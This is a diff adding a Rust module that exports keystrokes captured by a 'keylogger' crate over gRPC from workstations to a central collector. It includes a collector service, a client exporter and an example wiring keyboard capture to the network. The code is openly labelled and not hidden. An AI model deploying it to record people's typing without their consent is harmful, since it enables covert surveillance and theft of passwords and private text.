@@ -0,0 +1,266 @@
+//! Export the captured [`KeyEvent`]s to a central collector over gRPC.
+//!
+//! The schema of the service is defined in `proto/keylogger.proto`. Each machine streams its
+//! events to the collector using an [`Exporter`]. The collector serves a [`CollectorService`]
+//! (e.g. using [`tonic::transport::Server`]), and consumes the events it receives from the
+//! corresponding [`CollectedEvents`] stream.
+//!
+//! The collector buffers a bounded number of events: once the buffer is full, it stops reading
+//! from the exporters, and HTTP/2 flow control slows them down.
+//!
+//! # Example
+//!
+//! ```no_run
+//! use futures::StreamExt;
+//! use keylogger::grpc::{self, Exporter};
+//! use keylogger::{merge_keyboards, KeyloggerError};
+//!
+//! #[tokio::main]
+//! async fn main() -> Result<(), KeyloggerError> {
+//!     // On the collector:
+//!     let (service, mut events) = grpc::collector(1024);
+//!
+//!     tokio::spawn(
+//!         tonic::transport::Server::builder()
+//!             .add_service(service)
+//!             .serve("0.0.0.0:50051".parse().unwrap()),
+//!     );
+//!
+//!     tokio::spawn(async move {
+//!         while let Some((source, ev)) = events.next().await {
+//!             println!("{source}: {ev:?}");
+//!         }
+//!     });
+//!
+//!     // On each machine:
+//!     let mut exporter = Exporter::connect("http://collector:50051").await?;
+//!     let events = merge_keyboards()?.filter_map(|ev| async move { ev.ok().map(|ev| ev.event) });
+//!
+//!     exporter.export("workstation-1", events).await?;
+//!
+//!     Ok(())
+//! }
+//! ```
+
+pub mod proto;
+
+use std::convert::{Infallible, TryFrom};
+use std::pin::Pin;
+use std::task::{Context, Poll};
+
+use futures::{Stream, StreamExt};
+use tokio::sync::mpsc;
+use tonic::codec::ProstCodec;
+use tonic::codegen::{empty_body, http, Body, BoxFuture, Service, StdError};
+use tonic::server::{ClientStreamingService, Grpc, NamedService};
+use tonic::transport::{Channel, Endpoint};
+use tonic::{Request, Response, Status, Streaming};
+
+use crate::error::KeyloggerError;
+use crate::keyboard::KeyEvent;
+use crate::KeyloggerResult;
+
+/// The fully-qualified name of the gRPC service.
+const SERVICE_NAME: &str = "keylogger.KeyEventExport";
+/// The path of the `Export` method.
+const EXPORT_PATH: &str = "/keylogger.KeyEventExport/Export";
+
+/// Create a collector that buffers up to `buffer` events.
+///
+/// The returned service must be served by a tonic server. The events received by the service are
+/// yielded by the returned stream, tagged with the source reported by the exporter.
+pub fn collector(buffer: usize) -> (CollectorService, CollectedEvents) {
+    let (tx, rx) = mpsc::channel(buffer.max(1));
+
+    (CollectorService { tx }, CollectedEvents { rx })
+}
+
+/// The server side of the `KeyEventExport` gRPC service (see [`collector`]).
+#[derive(Clone, Debug)]
+pub struct CollectorService {
+    tx: mpsc::Sender<(String, KeyEvent)>,
+}
+
+impl NamedService for CollectorService {
+    const NAME: &'static str = SERVICE_NAME;
+}
+
+impl<B> Service<http::Request<B>> for CollectorService
+where
+    B: Body + Send + 'static,
+    B::Error: Into<StdError> + Send + 'static,
+{
+    type Response = http::Response<tonic::body::BoxBody>;
+    type Error = Infallible;
+    type Future = BoxFuture<Self::Response, Self::Error>;
+
+    fn poll_ready(&mut self, _cx: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
+        Poll::Ready(Ok(()))
+    }
+
+    fn call(&mut self, req: http::Request<B>) -> Self::Future {
+        if req.uri().path() != EXPORT_PATH {
+            return Box::pin(async move {
+                let mut response = http::Response::new(empty_body());
+                let headers = response.headers_mut();
+
+                headers.insert(
+                    Status::GRPC_STATUS,
+                    (tonic::Code::Unimplemented as i32).into(),
+                );
+                headers.insert(
+                    http::header::CONTENT_TYPE,
+                    tonic::metadata::GRPC_CONTENT_TYPE,
+                );
+
+                Ok(response)
+            });
+        }
+
+        let export = Export {
+            tx: self.tx.clone(),
+        };
+
+        Box::pin(async move {
+            let mut grpc = Grpc::new(ProstCodec::default());
+
+            Ok(grpc.client_streaming(export, req).await)
+        })
+    }
+}
+
+/// The handler of the `Export` method.
+struct Export {
+    tx: mpsc::Sender<(String, KeyEvent)>,
+}
+
+impl ClientStreamingService<proto::ExportedEvent> for Export {
+    type Response = proto::ExportSummary;
+    type Future = BoxFuture<Response<Self::Response>, Status>;
+
+    fn call(&mut self, request: Request<Streaming<proto::ExportedEvent>>) -> Self::Future {
+        let tx = self.tx.clone();
+
+        Box::pin(async move {
+            let mut events = request.into_inner();
+            let mut received = 0;
+
+            while let Some(exported) = events.message().await? {
+                let ev = exported
+                    .event
+                    .ok_or_else(|| Status::invalid_argument("missing event"))?;
+                let ev =
+                    KeyEvent::try_from(ev).map_err(|e| Status::invalid_argument(e.to_string()))?;
+
+                // Waiting for room in the buffer is what applies the backpressure
+                tx.send((exported.source, ev))
+                    .await
+                    .map_err(|_| Status::unavailable("the collector is shutting down"))?;
+
+                received += 1;
+            }
+
+            Ok(Response::new(proto::ExportSummary { received }))
+        })
+    }
+}
+
+/// A [`Stream`] of the events received by a collector, tagged with their source (see
+/// [`collector`]).
+#[derive(Debug)]
+pub struct CollectedEvents {
+    rx: mpsc::Receiver<(String, KeyEvent)>,
+}
+
+impl Stream for CollectedEvents {
+    type Item = (String, KeyEvent);
+
+    fn poll_next(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<Option<Self::Item>> {
+        self.get_mut().rx.poll_recv(cx)
+    }
+}
+
+/// The client side of the `KeyEventExport` gRPC service, which streams events to a collector.
+#[derive(Clone, Debug)]
+pub struct Exporter {
+    grpc: tonic::client::Grpc<Channel>,
+}
+
+impl Exporter {
+    /// Connect to the collector at the specified URI (e.g. `http://collector:50051`).
+    pub async fn connect(uri: impl Into<String>) -> KeyloggerResult<Self> {
+        let channel = Endpoint::from_shared(uri.into())
+            .map_err(|e| KeyloggerError::Grpc(e.to_string()))?
+            .connect()
+            .await
+            .map_err(|e| KeyloggerError::Grpc(e.to_string()))?;
+
+        Ok(Self::new(channel))
+    }
+
+    /// Create an exporter that uses the specified channel.
+    pub fn new(channel: Channel) -> Self {
+        Self {
+            grpc: tonic::client::Grpc::new(channel),
+        }
+    }
+
+    /// Stream the events to the collector, tagging them with the specified source (e.g. the
+    /// hostname of the machine).
+    ///
+    /// Returns the number of events the collector received once `events` ends.
+    pub async fn export<S>(&mut self, source: &str, events: S) -> KeyloggerResult<u64>
+    where
+        S: Stream<Item = KeyEvent> + Send + 'static,
+    {
+        let grpc_err = |e: Status| KeyloggerError::Grpc(e.to_string());
+
+        self.grpc
+            .ready()
+            .await
+            .map_err(|e| KeyloggerError::Grpc(e.to_string()))?;
+
+        let source = source.to_string();
+        let events = events.map(move |ev| proto::ExportedEvent {
+            source: source.clone(),
+            event: Some((&ev).into()),
+        });
+
+        let response: Response<proto::ExportSummary> = self
+            .grpc
+            .client_streaming(
+                Request::new(events),
+                http::uri::PathAndQuery::from_static(EXPORT_PATH),
+                ProstCodec::default(),
+            )
+            .await
+            .map_err(grpc_err)?;
+
+        Ok(response.into_inner().received)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::key_code::KeyCode;
+    use crate::keyboard::KeyEventCause;
+
+    #[test]
+    fn convert_events() {
+        let ev = KeyEvent {
+            ts: chrono::DateTime::from_timestamp(1_667_656_931, 482_915_000)
+                .unwrap()
+                .naive_utc(),
+            cause: KeyEventCause::Repeat,
+            code: KeyCode::KEY_LEFTSHIFT,
+            scancode: Some(0x700e1),
+        };
+
+        let msg = proto::KeyEvent::from(&ev);
+
+        assert_eq!(msg.cause, proto::KeyEventCause::Repeat as i32);
+        assert_eq!(KeyEvent::try_from(msg).unwrap(), ev);
+        assert!(KeyEvent::try_from(proto::KeyEvent::default()).is_err());
+    }
+}